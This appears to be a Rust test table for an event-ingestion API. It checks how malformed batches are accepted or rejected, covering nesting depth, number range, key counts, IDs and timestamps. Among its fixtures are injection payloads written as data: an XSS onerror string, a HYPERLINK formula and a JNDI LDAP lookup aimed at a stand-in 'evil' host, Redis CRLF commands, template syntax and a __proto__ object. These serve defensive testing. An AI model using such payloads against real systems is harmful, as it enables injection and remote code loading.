//! Events that are not what they should be, in batches that are.
use super::{Row, batch, event, good, post, row};
use std::fmt::Write as _;

pub(super) fn rows() -> Vec<Row> {
    let mut rows = shapes();
    rows.extend(numbers());
    rows.extend(keys());
    rows.extend(batches());
    rows.extend(ids());
    rows.extend(times());
    rows.extend(texts());
    rows
}

fn one(id: &str, rest: &str) -> Vec<u8> {
    post("", batch(&[event(id, rest)]))
}

fn property(id: &str, value: &str) -> Vec<u8> {
    one(id, &format!(",\"properties\":{{\"v\":{value}}}"))
}

fn nested(depth: usize) -> String {
    format!("{}1{}", "[".repeat(depth), "]".repeat(depth))
}

fn shapes() -> Vec<Row> {
    const ONE_EVENT: &str = "one event's fault refuses that event, not its batch";
    vec![
        row(78, "128 containers", property("v-78", &nested(127)))
            .rejects("too_deep", 1)
            .differs(ONE_EVENT),
        row(78, "60 000 containers", property("v-78s", &nested(30_000)))
            .rejects("too_deep", 1)
            .differs(ONE_EVENT),
        row(79, "9 containers", property("v-79", &nested(8))).rejects("too_deep", 1),
        row(79, "8 containers", property("v-79x", &nested(7))).accepts(1),
        row(84, "U+0000", property("v-84", "\"a\\u0000b\"")).rejects("nul_in_string", 1),
    ]
}

fn numbers() -> Vec<Row> {
    vec![
        row(80, "1e400", property("v-80", "1e400")).rejects("number_out_of_range", 1),
        row(81, "10 000 digits", property("v-81", &"9".repeat(10_000)))
            .rejects("number_out_of_range", 1),
        row(82, "2^64", property("v-82", "18446744073709551616"))
            .accepts(1)
            .differs("as JavaScript reads it: the nearest float; docs/WIRE.md"),
    ]
}

/// An object of so many keys.
fn wide(keys: usize, name: impl Fn(usize) -> String) -> String {
    let mut text = String::from(",\"properties\":{");
    for n in 0..keys {
        let comma = if n == 0 { "" } else { "," };
        write!(text, "{comma}\"{}\":1", name(n)).expect("a string takes all");
    }
    text + "}"
}

fn keys() -> Vec<Row> {
    let twice = one("v-83", ",\"properties\":{\"a\":1,\"a\":2}");
    let plain = ",\"properties\":{\"__proto__\":{\"admin\":true},\"constructor\":\"x\"}";
    vec![
        row(83, "a key twice", twice).rejects("duplicate_key", 1),
        row(85, "__proto__ and constructor", one("v-85", plain)).accepts(1),
        row(86, "80 000 keys", one("v-86", &wide(80_000, |n| format!("k{n}"))))
            .rejects("event_too_large", 1)
            .differs("that many keys are more than an event's 64 KiB"),
        row(86, "6 000 keys", one("v-86x", &wide(6_000, |n| format!("k{n}"))))
            .rejects("too_many_properties", 1),
        row(87, "6 000 keys that are alike", one("v-87", &wide(6_000, alike)))
            .rejects("too_many_properties", 1),
        row(87, "250 such keys", one("v-87x", &wide(250, |n| format!("{}{n:03}", "k".repeat(90)))))
            .accepts(1),
    ]
}

/// Keys that share what they can, and fit 64 KiB.
fn alike(n: usize) -> String {
    format!("k{n:04}")
}

fn batches() -> Vec<Row> {
    let bad = |id: &str| event(id, "").replace("\"Tried\"", "\"\"");
    let mut hundred: Vec<String> = (0..99).map(|n| event(&format!("v-92-{n}"), "")).collect();
    hundred.insert(50, bad("v-92"));
    let all_bad: Vec<String> = (0..3).map(|n| bad(&format!("v-93-{n}"))).collect();
    let long = ",\"properties\":{\"v\":\"".to_owned() + &"x".repeat(64 << 10) + "\"}";
    let items = format!("[{}1]", "1,".repeat(255));
    let same = [event("v-96", ""), event("v-96", "")];
    vec![
        row(92, "1 bad of 100", post("", batch(&hundred)))
            .accepts(99)
            .rejects("event_name_missing", 1)
            .says("\"index\":50"),
        row(93, "all bad", post("", batch(&all_bad)))
            .rejects("event_name_missing", 3)
            .differs("the contract says 422"),
        row(
            94,
            "an event above 64 KiB",
            post("", batch(&[event("v-94", ""), event("v-94x", &long)])),
        )
        .accepts(1)
        .rejects("event_too_large", 1),
        row(95, "256 items", property("v-95", &items)).rejects("array_too_long", 1),
        row(96, "an id twice in a batch", post("", batch(&same))).accepts(1).duplicates(1),
        row(97, "the same id, other content", one("v-96", ",\"properties\":{\"v\":2}"))
            .accepts(0)
            .duplicates(1)
            .differs("the first wins, and it counts as any duplicate"),
    ]
}

fn subject(id: &str, user: &str) -> Vec<u8> {
    one(id, &format!(",\"userId\":{user}"))
}

fn ids() -> Vec<Row> {
    let nameless = good("v-98").replace(",\"messageId\":\"v-98\"", "");
    let long = good("v-99").replace("v-99", &"m".repeat(10_000));
    let placeholder = |text: &str| subject("v-100", &format!("\"{text}\""));
    vec![
        row(98, "no id", post("", nameless)).rejects("missing_id", 1),
        row(99, "an id of 10 KB", post("", long)).rejects("invalid_id", 1),
        row(100, "null", placeholder("null")).rejects("placeholder_user_id", 1),
        row(100, "undefined", placeholder("undefined")).rejects("placeholder_user_id", 1),
        row(100, "Anonymous", placeholder("Anonymous")).rejects("placeholder_user_id", 1),
        row(100, "the zero UUID", placeholder("00000000-0000-0000-0000-000000000000"))
            .rejects("placeholder_user_id", 1),
        row(100, "[object Object]", placeholder("[object Object]"))
            .rejects("placeholder_user_id", 1),
        row(101, "257 bytes of user", subject("v-101", &format!("\"{}\"", "u".repeat(257))))
            .rejects("invalid_user_id", 1),
        row(108, "a user like a key of Redis", subject("v-108", r#""{a}:*\nSET x 1""#)).accepts(1),
    ]
}

fn times() -> Vec<Row> {
    let at = |id: &str, time: &str| one(id, &format!(",\"timestamp\":{time}"));
    vec![
        row(102, "yesterday", at("v-102", "\"yesterday\"")).rejects("invalid_timestamp", 1),
        row(103, "1e20", at("v-103", "1e20")).rejects("invalid_timestamp", 1),
        row(104, "the year 9999", at("v-104", "\"9999-12-31T23:59:59Z\"")).accepts(1),
        row(104, "the year 1970", at("v-104x", "\"1970-01-01T00:00:01Z\"")).accepts(1),
        row(104, "the year 1969", at("v-104y", "\"1969-12-31T23:59:59Z\""))
            .rejects("invalid_timestamp", 1),
    ]
}

fn texts() -> Vec<Row> {
    vec![
        row(105, "markup", property("v-105", r#""<img src=x onerror=alert(1)>""#)).accepts(1),
        row(106, "a formula", property("v-106", r#""=HYPERLINK(\"http://evil\")""#)).accepts(1),
        row(107, "commands", property("v-107", r#""\r\nSET x 1\r\n{{7*7}}${jndi:ldap://evil}""#))
            .accepts(1),
    ]
}
